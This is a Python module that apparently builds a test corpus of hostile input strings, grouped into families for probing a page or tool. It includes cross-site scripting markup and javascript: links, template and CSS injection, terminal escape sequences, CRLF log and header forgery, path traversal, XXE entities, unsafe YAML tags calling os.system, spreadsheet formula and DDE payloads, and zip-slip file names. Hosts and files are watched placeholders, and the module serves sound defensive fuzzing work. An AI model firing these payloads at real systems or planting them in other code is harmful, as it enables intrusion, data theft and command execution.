"""Hostile texts in families, made by putting a few parts together in every way.

Each tries one thing: to run in the page, to be taken for a line of the log or a command by a
terminal, to turn a number around, or to make a reader open a file or ask a host. A text that names
a file has FILE in it, one that names a host HOST: whoever tries it puts something there that can be
watched.
"""

from __future__ import annotations

from dataclasses import dataclass
from itertools import product

FILE, HOST = "@FILE@", "@HOST@"
# What would show in the page that something ran.
RUN = "window.__hacked=1"
# What would show that a line or a header was forged.
FORGED = "forged-by-hostile"


@dataclass(frozen=True)
class Payload:
    """One hostile text, and the family that it is of."""

    family: str
    text: str


def payloads() -> list[Payload]:
    """All of them, no text twice."""
    made = {text: family for family, texts in _families().items() for text in texts}
    return [Payload(family, text) for text, family in made.items()]


def _families() -> dict[str, list[str]]:
    return {
        "markup": [f"{close}{element}" for close, element in product(_CLOSINGS, _ELEMENTS)],
        "addresses": [form.format(address) for form, address in product(_LINKS, _ADDRESSES)],
        "styles": [form.format(rule) for form, rule in product(_STYLES, _RULES)],
        "drawings": [*_SVG, *_MATHML],
        "page": _PAGE,
        "templates": [form.format(f"constructor('{RUN}')()") for form in _TEMPLATES],
        "terminals": [start + what for start, what in _SEQUENCES],
        "directions": [form.replace("~", mark) for form, mark in product(_TURNED, _MARKS)],
        "log lines": [f"x{end}{level}: {FORGED}" for end, level in product(_LINE_ENDS, _LEVELS)],
        "headers": [f"x{end}{header}" for end, header in product(_HEADER_ENDS, _HEADERS)],
        "paths": [start + way for start, way in product(_STARTS, _WAYS)] + _PLACES,
        "entities": [f"<!DOCTYPE a [{declared}]><a>&e;</a>" for declared in _ENTITIES],
        "YAML": _YAML,
        "formulas": [start + call for start, call in product("=+-@\t", _CALLS)],
        "JSON": _JSON,
        "archive names": [f"{name}{suffix}" for name, suffix in product(_ZIPPED, ("", ".txt"))],
        "nests": [opened * 300 for opened in _NESTS],
        "formats": _FORMATS,
    }


_CLOSINGS = ("", '">', "'>", "</textarea>", "</script>", "-->", "]]>", "</title></style>")
_ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src=http://{HOST}/x.js></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=http://{HOST}/a.png srcset=http://{HOST}/b.png>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
    f"<object data=http://{HOST}/o></object><embed src=http://{HOST}/e>",
    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
    f"<base href=http://{HOST}/>",
    f"<link rel=stylesheet href=http://{HOST}/s.css>",
    f"<form action=http://{HOST}/><button formaction=javascript:{RUN}>send</button></form>",
)
_LINKS = ("[press]({})", "<{}>", '<a href="{}">here</a>', "![seen]({})", "[one][two]\n\n[two]: {}")
_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#x73;cript&colon;{RUN}",
    f" \x01javascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"data:image/svg+xml,<svg onload='{RUN}'/>",
    f"blob:http://{HOST}/a",
    f"file://{FILE}",
    f"//{HOST}/a",
    f"http:\\\\{HOST}\\a",
)
_STYLES = ("<style>{}</style>", "<p style='{}'>wide</p>")
_RULES = (
    f"@import url(http://{HOST}/c)",
    f"background:url(http://{HOST}/d)",
    f"width:expression({RUN})",
    f"behavior:url(http://{HOST}/f)",
    "position:fixed;inset:0;z-index:9999",
)
_SVG = [
    f"<svg onload={RUN}></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>press</text></a></svg>",
    f"<svg><use href=http://{HOST}/u.svg#a></use></svg>",
    f"<svg><image href=http://{HOST}/i.png></image></svg>",
    f"<svg><foreignObject><body onload={RUN}></body></foreignObject></svg>",
]
_MATHML = [
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$",
    f"\\(\\includegraphics{{http://{HOST}/g}}\\)",
]
_PAGE = [
    "<a id=qa-page name=body></a><input id=qa-box name=q><form id=qa-form></form>",
    f"</textarea></div></article></main></script><h1>Ours?</h1><!-- <svg onload={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt; &#60;script&#62;{RUN}&#60;/script&#62;",
    "long" * 120,
    "<dialog open>press</dialog><div popover id=a></div><slot name=a></slot>",
]
_TEMPLATES = (
    *("{{{{{}}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{% {} %}}", "[[{}]]", "$({})", "`{}`"),
    *("@{{{}}}", "<?php {} ?>", "\\input{{{}}}", "<<{}>>"),
)
_SEQUENCES = [
    ("\x1b[", "2J"),
    ("\x1b[", "1A\x1b[2K"),
    ("\x1b[", "31mred"),
    ("\x1b[", "?1049h"),
    ("\x1b[", "6n"),
    ("\x1b]", "0;title\x07"),
    ("\x1b]", f"8;;http://{HOST}/\x1b\\link\x1b]8;;\x1b\\"),
    ("\x1b]", "52;c;aGVsbG8=\x07"),
    ("\x1bP", "$qm\x1b\\"),
    ("\x1bc", "reset"),
    ("\x9b", "2J"),
    ("\x9d", "0;title\x9c"),
    ("\x90", "q\x9c"),
    ("\x84", "down"),
    ("\x08" * 9, "over"),
    ("\x7f", "gone"),
    ("\x0e", "other letters"),
]
_TURNED = ("~12-345~6", "call 555~0199", "\u05d0~7.2")
_MARKS = (
    "\u202a",
    "\u202b",
    "\u202c",
    "\u202d",
    "\u202e",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",
    "\u200f",
    "\u061c",
)
_LINE_ENDS = (
    "\n",
    "\r",
    "\r\n",
    "\x0b",
    "\x0c",
    "\x1c",
    "\x1d",
    "\x1e",
    "\x85",
    "\u2028",
    "\u2029",
)
_LEVELS = ("ERROR", "WARNING")
_HEADER_ENDS = ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a")
_HEADERS = (f"X-{FORGED}: 1", f"Set-Cookie: {FORGED}=1", f"\r\n<p>{FORGED}</p>")
_STARTS = ("", "/", "\\", "C:", "source/", "file=")
_WAYS = (
    "../../../../etc/hostname",
    "..%2f..%2fetc%2fhostname",
    "..\\..\\windows\\win.ini",
    "....//....//etc/hostname",
    "%2e%2e/%2e%2e/etc/hostname",
    "..%c0%af..%c0%afetc/hostname",
)
_PLACES = [
    FILE,
    f"file://{FILE}",
    f"file://localhost{FILE}",
    f"\\\\{HOST}\\share",
    f"//{HOST}/share",
    f"http://{HOST}/a",
    f"https://{HOST}/a",
    f"ftp://{HOST}/a",
    f"gopher://{HOST}/a",
    f"jar:file:{FILE}!/a",
    "/proc/self/environ",
    "/dev/zero",
    "CON",
    "NUL.txt",
    "a\x00.txt",
    "~/.ssh",
    f"include::{FILE}[]",
    f".. include:: {FILE}",
    f"@include {FILE}",
    f"#+INCLUDE: {FILE}",
    f"\\input{{{FILE}}}",
    f"xi:include href='{FILE}'",
    f"!include {FILE}",
    f"$include {FILE}",
]
_ENTITIES = (
    f'<!ENTITY e SYSTEM "file://{FILE}">',
    f'<!ENTITY e SYSTEM "{FILE}">',
    f'<!ENTITY e SYSTEM "http://{HOST}/e">',
    f'<!ENTITY e PUBLIC "x" "http://{HOST}/e">',
    f'<!ENTITY % p SYSTEM "http://{HOST}/p.dtd"> %p;',
    f'<!ENTITY % p SYSTEM "file://{FILE}"> %p;',
    '<!ENTITY e "&e;">',
    '<!ENTITY a "ha"><!ENTITY e "&a;&a;&a;&a;">',
    f'<!NOTATION n SYSTEM "http://{HOST}/n"><!ENTITY e SYSTEM "x" NDATA n>',
)
_YAML = [
    "!!python/object/apply:os.system [id]",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!python/object/new:tuple [[1]]",
    "!!binary aGVsbG8=",
    "!!set {a}",
    "!!omap [a: 1]",
    "&a [*a]",
    "*nobody",
    "<<: *nobody",
    "!<tag:yaml.org,2002:python/none>",
    "%YAML 9.9",
    f"!include {FILE}",
    "? [a, b]\n: c",
    "--- a\n--- b",
    "!!float .nan",
    "!!timestamp 0000-00-00",
]
_CALLS = (
    "1+1",
    f'HYPERLINK("http://{HOST}/h","press")',
    f'WEBSERVICE("http://{HOST}/w")',
    "cmd|' /C calc'!A0",
    f'IMPORTXML("http://{HOST}/i","//a")',
)
_JSON = [
    '{"__proto__": {"a": 1}}',
    '{"constructor": {"prototype": {"a": 1}}}',
    '{"a": 1, "a": 2}',
    '"\\ud800"',
    '"\\u0000"',
    "1e400",
    "NaN",
    "-Infinity",
    "9" * 400,
    f'{{"$ref": "file://{FILE}"}}',
    f'{{"$schema": "http://{HOST}/s"}}',
    f'{{"@context": "http://{HOST}/c"}}',
    "[1,]",
    "{'a': 1}",
    "/*a*/ 1",
    '"\x01"',
]
_ZIPPED = (
    "../../faq",
    "/etc/faq",
    "C:\\faq",
    "..\\faq",
    "a/../../faq",
    "con",
    "\x1b[2Jfaq",
    "a\nb",
    "\u202efaq",
    "faq\x00",
)
_NESTS = ("<b>", "[", "{", "(", "> ", "- ", "{{", "<!--", "\\begin{a}", "&a;", "*", "`")
_FORMATS = [
    "%s%s%s%n",
    "%(levelname)s",
    "%(secret)s",
    "{0}{1}",
    "{self}",
    "{0.__class__}",
    "{!r:>999999999}",
    "%999999999d",
    "$title",
    "${greeting}",
    "{query}",
    "[red]rich[/red]",
    f"[link=http://{HOST}]x[/link]",
    ":warning:",
    "[/]",
]
